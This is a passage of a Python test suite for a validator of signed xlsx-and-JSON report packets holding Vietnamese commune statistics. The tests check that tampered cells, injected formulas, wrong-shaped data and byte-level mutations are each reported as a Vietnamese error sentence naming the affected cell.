            r'<c r="D5" s="([0-9]+)" t="inlineStr"><is><t>[^<]*</t></is></c>',
            r'<c r="D5" s="\1" t="inlineStr"><is><t></t></is></c>',
            text,
        )

    assert problem_of(resigned(commune.raw, commune.key, data_edit=missing)) is not None
    assert problem_of(resigned(commune.raw, commune.key, xlsx=xlsx_with(commune.xlsx, sheet2=emptied))) is not None
    both = resigned(commune.raw, commune.key, xlsx=xlsx_with(commune.xlsx, sheet2=emptied), data_edit=missing)
    assert problem_of(both) is None

    def added(data):
        data["values"]["villages"][code]["so_ho"] = 5

    said = problem_of(resigned(both, commune.key, data_edit=added))
    assert said.startswith("tệp bieu.xlsx, trang “Theo bản”, ô C5") and said.endswith(
        "để trống nhưng so-lieu.json ghi 5."
    )


@pytest.mark.parametrize(
    "edit",
    [
        lambda d: d.update(villages="Bản A"),
        lambda d: d.update(values=[]),
        lambda d: d["values"].update(villages={"03445.01": [1, 2]}),
        lambda d: d.update(rows=None),
        lambda d: d["villages"][0].update(name=7),
        lambda d: d["rows"].append({"indicator": "ban_co_nvh", "achieved": 1, "total": 0, "applicable": []}),
    ],
    ids=["villages-a-text", "values-a-list", "village-values-a-list", "no-rows", "name-a-number", "odd-row"],
)
def test_data_of_the_wrong_shape_is_said_not_raised(commune, edit):
    said = problem_of(resigned(commune.raw, commune.key, data_edit=edit))
    assert said and said.startswith("tệp "), said


# ---- a merged packet ------------------------------------------------------------------------------------


def test_a_merged_table_changed_in_each_sheet_is_named(merged):
    name = next(u["name"] for u in merged.data["units"] if u["figures"])
    for part, sheet in (("sheet1", "Biểu"), ("sheet2", "Theo đơn vị"), ("sheet3", "Biến động")):
        said = problem_of(resigned(merged.raw, merged.key, xlsx=xlsx_with(merged.xlsx, **{part: times_ten})))
        assert said and said.startswith(f"tệp bieu.xlsx, trang “{sheet}”, ô "), said
    figure = merged.data["units"][0]["figures"]

    def edit(data):
        unit = next(u for u in data["units"] if u["figures"])
        unit["figures"]["ho_van_hoa"]["value"] += 1

    said = problem_of(resigned(merged.raw, merged.key, data_edit=edit))
    assert f"(chỉ tiêu 3.1 của {name})" in said, (said, figure)


@pytest.mark.parametrize(
    "edit",
    [
        lambda d: d["jumps"][0].update(previous=0),
        lambda d: d["jumps"][0].update(indicator="chi_tieu_la"),
        lambda d: d["units"].append("Xã Lạ"),
        lambda d: d["figures"].update(cb_boi_duong={"value": "nhiều", "total": 1}),
        lambda d: d.update(units={}),
    ],
    ids=["jump-from-zero", "jump-of-no-indicator", "unit-a-text", "figure-a-text", "units-a-map"],
)
def test_merged_data_of_the_wrong_shape_is_said_not_raised(merged, edit):
    said = problem_of(resigned(merged.raw, merged.key, data_edit=edit))
    assert said and said.startswith("tệp "), said


def test_a_jump_changed_in_the_data_is_named(merged):
    def edit(data):
        data["jumps"][0]["current"] += 1

    said = problem_of(resigned(merged.raw, merged.key, data_edit=edit))
    assert said.startswith("tệp bieu.xlsx, trang “Biến động”, ô E4 (cột “Kỳ này” của Xã Mường Tè)"), said


def test_a_merged_target_changed_in_the_sheet_is_named(merged):
    xlsx = xlsx_with(merged.xlsx, sheet1=lambda t: t.replace("<t>≥ 100%</t>", "<t>≥ 10%</t>", 1))
    assert xlsx != merged.xlsx
    said = problem_of(resigned(merged.raw, merged.key, xlsx=xlsx))
    assert re.fullmatch(
        r"tệp bieu\.xlsx, trang “Biểu”, ô G[0-9]+ \(cột “Mục tiêu” của chỉ tiêu [0-9.]+\) ghi “≥ 10%” "
        r"nhưng so-lieu\.json ghi “≥ 100%”\.",
        said,
    ), said


def test_merged_targets_of_another_version_of_the_set_are_only_required_to_be_text(merged):
    def older(data):
        data["target_set"]["version"] -= 1

    assert problem_of(resigned(merged.raw, merged.key, data_edit=older)) is None
    xlsx = xlsx_with(merged.xlsx, sheet1=lambda t: t.replace("<t>≥ 100%</t>", "<t>≥ 10%</t>", 1))
    assert problem_of(resigned(merged.raw, merged.key, xlsx=xlsx, data_edit=older)) is None

    def number(text: str) -> str:
        return re.sub(
            r'<c r="(G[0-9]+)" s="([0-9]+)" t="inlineStr"><is><t>≥ 100%</t></is></c>',
            r'<c r="\1" s="\2" t="n"><v>100</v></c>',
            text,
            count=1,
        )

    said = problem_of(resigned(merged.raw, merged.key, xlsx=xlsx_with(merged.xlsx, sheet1=number), data_edit=older))
    assert said and "ô G" in said and "ghi 100" in said, said


@pytest.mark.parametrize("path", sorted(FIXTURES.glob("*.sctg")), ids=lambda p: p.stem)
def test_a_packet_of_every_writer_changed_is_refused(path):
    raw = path.read_bytes()
    entries = entries_of(raw)
    manifest = json.loads(entries[MANIFEST])
    form = default_library().get(manifest["form"]["id"], manifest["form"]["version"])
    data = json.loads(entries[DATA_JSON])
    assert sheet_problem(xlsx_with(entries[FORM_XLSX], sheet1=times_ten), data, form)
    assert sheet_problem(xlsx_with(entries[FORM_XLSX], sheet2=times_ten), data, form)
    with_formula = xlsx_with(entries[FORM_XLSX], sheet1=lambda t: t.replace("<v>", "<f>1+1</f><v>", 1))
    assert "chứa công thức =1+1" in sheet_problem(with_formula, data, form)


# ---- kinds of cells: amounts, dates, text, names with & and < -----------------------------------------


def test_amounts_dates_and_text_are_compared_as_printed(sapa):
    ws = openpyxl.load_workbook(io.BytesIO(sapa.xlsx))["Biểu"]
    date_cell = next(c for row in ws.iter_rows() for c in row if c.value == "15/12/2022")
    xlsx = xlsx_with(sapa.xlsx, sheet1=lambda t: t.replace("15/12/2022", "16/12/2022"))
    said = problem_of(resigned(sapa.raw, sapa.key, xlsx=xlsx))
    assert said == (
        f"tệp bieu.xlsx, trang “Biểu”, ô {date_cell.coordinate} (cột “Tổng số” của chỉ tiêu 6.1) "
        "ghi “16/12/2022” nhưng so-lieu.json ghi “15/12/2022”."
    )
    xlsx = xlsx_with(sapa.xlsx, sheet1=lambda t: t.replace("<v>6505490000</v>", "<v>65054900000</v>"))
    assert "ghi 65.054.900.000 nhưng so-lieu.json ghi 6.505.490.000." in problem_of(
        resigned(sapa.raw, sapa.key, xlsx=xlsx)
    )
    xlsx = xlsx_with(sapa.xlsx, sheet1=lambda t: t.replace("&amp; &lt;máy chiếu&gt;", "&amp; &lt;ô tô&gt;"))
    assert "“=Đề nghị hỗ trợ thêm kinh phí & <ô tô>”" in problem_of(resigned(sapa.raw, sapa.key, xlsx=xlsx))


def test_a_retired_village_is_named_as_printed(demo_db, library, tmp_path):
    report = demo_db.find_report("03445", "kl224", "2024")
    retired = demo_db.report_villages(report)[-1]
    demo_db.retire_unit(retired.code, WHO)
    view = view_report(demo_db, report, library.get("kl224"))
    raw = export_packet(demo_db, view, DEMO_PASSPHRASE, tmp_path, at=AT).path.read_bytes()
    assert any(not v["active"] for v in json.loads(entries_of(raw)[DATA_JSON])["villages"])
    assert problem_of(raw) is None


# ---- whatever is accepted reads as the genuine sheet -------------------------------------------------


def plain(number_format: str) -> bool:
    """A format that prints the number as it is (General, 0, @, thousands with dots or commas; a percentage
    with one decimal and a change with its sign: 315 shows 315,0 or +315, never another figure)."""
    plain_ones = ("General", "0", "@", "#,##0", "0.0", "+0;-0;0")
    return number_format in plain_ones or bool(re.fullmatch(r"#(\\\.###)*\\\.##0", number_format))


def compared_values(xlsx: bytes) -> dict:
    """What the check vouches for, read by openpyxl: every number, the village sheet, the indicator table."""
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx))
    form = workbook["Biểu"]
    header = next(c.row for c in form["A"] if c.value == "Stt")
    # the line under the table (its words are only required to be text: a changed one ends the table too)
    checks = next(
        (c.row for c in form["A"] if isinstance(c.value, str) and c.value.startswith("Kiểm tra:")), form.max_row + 1
    )
    found = {}
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                table = ws.title != "Biểu" or header <= cell.row < checks
                if cell.value is not None and (table or not isinstance(cell.value, str)):
                    found[(ws.title, cell.coordinate)] = (cell.value, plain(cell.number_format))
    hidden = [(ws.title, r) for ws in workbook.worksheets for r, d in ws.row_dimensions.items() if d.hidden]
    return {"cells": found, "hidden": hidden}


@pytest.mark.slow
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.data())
def test_a_mutated_sheet_never_raises_and_passes_only_as_the_same_figures(commune, data):
    """One byte of a sheet's XML changed, removed or doubled: a sentence, or a sheet that openpyxl
    reads with the same values as the genuine one."""
    part = data.draw(st.sampled_from([FORM_SHEET, VILLAGE_SHEET]))
    body = entries_of(commune.xlsx)[part]
    at = data.draw(st.integers(0, len(body) - 1))
    how = data.draw(st.sampled_from(["flip", "drop", "double"]))
    if how == "flip":
        changed = body[:at] + bytes([body[at] ^ data.draw(st.integers(1, 255))]) + body[at + 1 :]
    elif how == "drop":
        changed = body[:at] + body[at + 1 :]
    else:
        changed = body[:at] + body[at : at + 1] * 2 + body[at + 1 :]
    xlsx = xlsx_with(commune.xlsx, parts={part: changed})
    form = default_library().get("kl224")
    said = sheet_problem(xlsx, commune.data, form)
    if said is None:
        try:
            read = compared_values(xlsx)
        except Exception:
            # openpyxl gives up on some attributes around the cells (a selection's), as Excel would
            # repair them; inside the cells nothing it cannot read is accepted.
            assert not body.index(b"<sheetData>") < at < body.index(b"</sheetData>"), (at, how)
            return
        assert read == compared_values(commune.xlsx)
    else:
        assert said.startswith("tệp bieu.xlsx") and said.endswith("."), said
